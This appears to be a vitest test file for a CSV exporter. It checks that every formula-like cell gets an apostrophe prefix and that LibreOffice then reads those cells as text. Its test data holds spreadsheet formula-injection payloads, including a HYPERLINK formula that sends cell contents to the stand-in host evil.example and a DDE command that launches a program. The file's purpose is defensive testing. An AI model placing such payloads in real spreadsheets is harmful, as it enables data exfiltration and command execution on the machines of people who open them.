/**
 * docs/quality.md R17: what LibreOffice, where it is installed, makes of cells that look like
 * formulas.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { csvOf } from '#documents/formats/csv.ts';

const OFFICE = ['soffice', 'libreoffice'].find(
  (name) => spawnSync(name, ['--version'], { timeout: 60_000 }).status === 0,
);

const CELLS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A2,\n"click")',
  '=HYPERLINK("http://evil.example/?"&A2,\r\n"click")',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A1",
  '＝1+1',
  '＠SUM(1,1)',
];

test('every cell that looks like a formula begins with an apostrophe, over line breaks too', () => {
  const rows = CELLS.map((note) => ({ note }));
  const { data } = Papa.parse<string[]>(csvOf(rows, ['note']).slice(1), { skipEmptyLines: true });
  expect(data.slice(1).map(([cell]) => cell)).toEqual(CELLS.map((cell) => `'${cell}`));
});

test.skipIf(OFFICE === undefined)(
  'a spreadsheet program reads an escaped formula as text',
  ({ skip }) => {
    const folder = mkdtempSync(join(tmpdir(), 'statewise-sheet-'));
    const converted = (name: string, csv: string) => {
      writeFileSync(join(folder, `${name}.csv`), csv);
      spawnSync(
        OFFICE ?? '',
        [
          `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
          '--headless',
          '--convert-to',
          'fods',
          '--outdir',
          folder,
          join(folder, `${name}.csv`),
        ],
        { timeout: 120_000 },
      );
      const file = join(folder, `${name}.fods`);
      return existsSync(file) ? readFileSync(file, 'utf8') : undefined;
    };
    const bare = converted('bare', 'Note\r\n=1+1\r\n');
    if (bare === undefined) return skip('LibreOffice without Calc reads no tables');
    // some versions take no formula from such a file at all: then there is nothing to see
    skip(!bare.includes('table:formula='), 'this version reads no formulas from CSV');
    const sheet = converted(
      'escaped',
      csvOf(
        CELLS.map((note) => ({ note })),
        ['note'],
      ),
    );
    if (sheet === undefined) throw new Error('LibreOffice wrote no table');
    expect(sheet).not.toContain('table:formula=');
    expect(sheet).not.toMatch(/<text:a\b/);
    expect(sheet.match(/HYPERLINK/g)).toHaveLength(2);
    rmSync(folder, { recursive: true, force: true });
  },
);
